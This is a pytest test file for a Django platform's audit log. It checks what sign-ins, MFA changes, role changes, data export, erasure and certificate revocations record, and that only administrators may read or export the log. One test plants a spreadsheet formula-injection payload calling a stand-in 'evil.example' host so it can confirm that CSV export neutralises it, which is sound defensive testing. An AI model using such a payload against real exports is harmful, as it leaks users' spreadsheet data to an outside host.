"""The audit log: what gets recorded, by whom and from where; who may read and export it."""

import csv
import io
import time

import pytest
from allauth.mfa.totp.internal.auth import hotp_value

from accounts.models import Role
from accounts.services import role_grant, role_revoke
from audit.api import audit_record
from audit.models import AuditAction, AuditEvent

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]
PASSWORD = "correct horse battery staple"  # noqa: S105


def _events(action, **filters):
    return list(AuditEvent.objects.filter(action=action, **filters).order_by("pk"))


def test_sign_in_is_recorded_with_the_person_and_address(client, learner):
    response = client.post(
        "/en/accounts/login/",
        {"login": learner.email, "password": PASSWORD},
        REMOTE_ADDR="10.1.2.3",
    )
    assert response.status_code == 302
    [event] = _events(AuditAction.LOGIN)
    assert event.actor == learner
    assert event.actor_repr == learner.email
    assert event.target_id == str(learner.pk)
    assert event.ip == "10.1.2.3"


def test_failed_sign_in_is_recorded_once_with_the_login_typed_but_no_password(client, learner):
    client.post("/en/accounts/login/", {"login": learner.email, "password": "wrong-password"})
    [event] = _events(AuditAction.LOGIN_FAILED)
    assert event.actor is None
    assert event.target_id == str(learner.pk)
    assert event.details == {"login": learner.email, "stage": "password"}
    assert "wrong-password" not in str(event.details)
    assert not _events(AuditAction.LOGIN)


def test_failed_sign_in_with_an_unknown_address_has_no_target(client, db):
    client.post("/en/accounts/login/", {"login": "nobody@example.org", "password": "x" * 12})
    [event] = _events(AuditAction.LOGIN_FAILED)
    assert event.target_id == ""
    assert event.details["login"] == "nobody@example.org"


def test_sign_out_is_recorded(client, learner):
    client.force_login(learner)
    client.post("/en/accounts/logout/")
    [event] = _events(AuditAction.LOGOUT)
    assert event.actor == learner


def test_mfa_activation_and_deactivation_are_recorded(
    client, trainer, django_capture_on_commit_callbacks
):
    client.post("/en/accounts/login/", {"login": trainer.email, "password": PASSWORD})
    client.post("/en/accounts/reauthenticate/", {"password": PASSWORD})
    client.get("/en/accounts/2fa/totp/activate/")
    code = hotp_value(client.session["mfa.totp.secret"], int(time.time()) // 30)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/en/accounts/2fa/totp/activate/", {"code": f"{code:06d}"})
    assert response.status_code == 302
    [activated] = _events(AuditAction.MFA_ACTIVATED)
    assert activated.actor == trainer
    assert activated.details == {"type": "totp"}

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/en/accounts/2fa/totp/deactivate/")
    assert response.status_code == 302
    # The recovery codes go with it, but only the second factor itself is an event.
    [deactivated] = _events(AuditAction.MFA_DEACTIVATED)
    assert deactivated.actor == trainer
    assert deactivated.details == {"type": "totp"}


def test_role_changes_made_in_the_people_admin_name_the_administrator(
    client, administrator, learner, tree, mfa_login
):
    mfa_login(client, administrator)
    response = client.post(
        f"/admin/people/{learner.pk}/roles/grant/",
        {"role": Role.INSTITUTION_MANAGER, "institution": tree["belgrade"].pk},
    )
    assert response.status_code == 302
    [granted] = _events(AuditAction.ROLE_GRANTED, target_id=str(learner.pk))
    assert granted.actor == administrator
    assert granted.target_id == str(learner.pk)
    assert granted.details == {"role": "institution_manager", "institution": "PU-BG"}

    assignment = learner.role_assignments.get()
    client.post(f"/admin/people/{learner.pk}/roles/{assignment.pk}/revoke/")
    [revoked] = _events(AuditAction.ROLE_REVOKED, target_id=str(learner.pk))
    assert revoked.actor == administrator
    assert revoked.details == granted.details


def test_role_changes_without_a_request_have_no_actor_and_repeat_grants_are_not_events(learner):
    role_grant(user=learner, role=Role.TRAINER)
    role_grant(user=learner, role=Role.TRAINER)
    role_revoke(user=learner, role=Role.TRAINER)
    role_revoke(user=learner, role=Role.TRAINER)
    assert [e.action for e in AuditEvent.objects.filter(target_id=learner.pk).order_by("pk")] == [
        AuditAction.ROLE_GRANTED,
        AuditAction.ROLE_REVOKED,
    ]
    assert not AuditEvent.objects.filter(actor__isnull=False).exists()


def test_personal_data_export_is_recorded_and_lists_the_persons_own_events(client, learner):
    client.force_login(learner)
    data = client.get("/en/account/personal-data/").json()
    [event] = _events(AuditAction.PERSONAL_DATA_EXPORTED)
    assert event.actor == learner
    assert [e["action"] for e in data["security_log"]] == ["login"] or data["security_log"] == []


def test_erasure_is_recorded_and_removes_the_name_from_earlier_entries(client, learner):
    client.post("/en/accounts/login/", {"login": learner.email, "password": "wrong-password"})
    client.force_login(learner)
    client.post("/en/account/erase/", {"password": PASSWORD, "confirm": "on"})
    [erased] = _events(AuditAction.PERSONAL_DATA_ERASED)
    assert erased.target_id == str(learner.pk)
    for event in AuditEvent.objects.all():
        assert learner.email not in f"{event.actor_repr} {event.target_repr} {event.details}"


def test_a_rolled_back_change_leaves_no_entry(learner):
    from django.db import transaction

    with pytest.raises(RuntimeError), transaction.atomic():
        audit_record(action=AuditAction.ROLE_GRANTED, target=learner)
        raise RuntimeError
    assert not AuditEvent.objects.exists()


def test_unknown_action_is_refused(learner):
    with pytest.raises(ValueError):
        audit_record(action="made_up", target=learner)


# --- The admin view -----------------------------------------------------------------------------


def test_administrator_reads_filters_and_pages_the_log(client, administrator, learner, mfa_login):
    for _ in range(60):
        audit_record(action=AuditAction.LOGIN, actor=learner, target=learner)
    audit_record(action=AuditAction.CERTIFICATE_REVOKED, actor=administrator, target=learner)
    mfa_login(client, administrator)
    page = client.get("/admin/audit/")
    assert page.status_code == 200
    body = page.content.decode()
    assert "Certificate revoked" in body
    assert body.count("Signed in") >= 40  # one page of 50 (plus the filter's own option)
    assert client.get("/admin/audit/?p=2").status_code == 200
    filtered = client.get("/admin/audit/results/?action=certificate_revoked").content.decode()
    assert "Certificate revoked" in filtered
    assert "Signed in</td>" not in filtered


@pytest.mark.parametrize("fixture", ["learner", "trainer", "manager_bg", "analyst"])
def test_everyone_but_administrators_is_refused(client, request, fixture, mfa_login):
    user = request.getfixturevalue(fixture)
    audit_record(action=AuditAction.LOGIN, actor=user, target=user)
    mfa_login(client, user)
    for url in ("/admin/audit/", "/admin/audit/results/", "/admin/audit/?export=csv"):
        response = client.get(url)
        assert response.status_code in (302, 403), url
        assert user.email.encode() not in response.content


def test_anonymous_is_sent_to_sign_in(client, db):
    response = client.get("/admin/audit/")
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


def test_csv_export_neutralises_formulas_in_names(client, administrator, learner, mfa_login):
    learner.first_name = '=HYPERLINK("http://evil.example/?"&A1)'
    learner.save()
    audit_record(action=AuditAction.LOGIN_FAILED, target=learner, details={"login": "@SUM(1)"})
    mfa_login(client, administrator)
    response = client.get("/admin/audit/?export=csv&action=login_failed")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:2] == ["At", "Action"]
    [row] = rows[1:]
    assert row[1] == "Failed sign-in"
    assert row[5].startswith("'=HYPERLINK")
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_xlsx_export_opens_with_the_events(client, administrator, learner, mfa_login):
    from openpyxl import load_workbook

    audit_record(action=AuditAction.PERSONAL_DATA_EXPORTED, actor=learner, target=learner)
    mfa_login(client, administrator)
    response = client.get("/admin/audit/?export=xlsx&action=personal_data_exported")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[1][1] == "Personal data exported"


def test_certificate_revocation_is_recorded(
    client, learner, administrator, mfa_login, django_capture_on_commit_callbacks
):
    from certificates.models import Certificate
    from courses.factories import course_with_lessons
    from tests.certificates.conftest import complete_course

    course = course_with_lessons(modules=1, lessons=1, title="Identifikacija žrtava")
    with django_capture_on_commit_callbacks(execute=True):
        enrolment = complete_course(user=learner, course=course)
    certificate = Certificate.objects.get(enrolment=enrolment)
    mfa_login(client, administrator)
    client.post(
        f"/en/manage/certificates/{certificate.pk}/revoke/",
        {"category": "other", "reason": "Issued in error."},
    )
    [event] = _events(AuditAction.CERTIFICATE_REVOKED)
    assert event.actor == administrator
    assert event.target_type == "certificates.certificate"
    assert event.target_id == str(certificate.pk)
    assert event.details == {
        "serial": certificate.serial,
        "category": "other",
        "reason": "Issued in error.",
    }
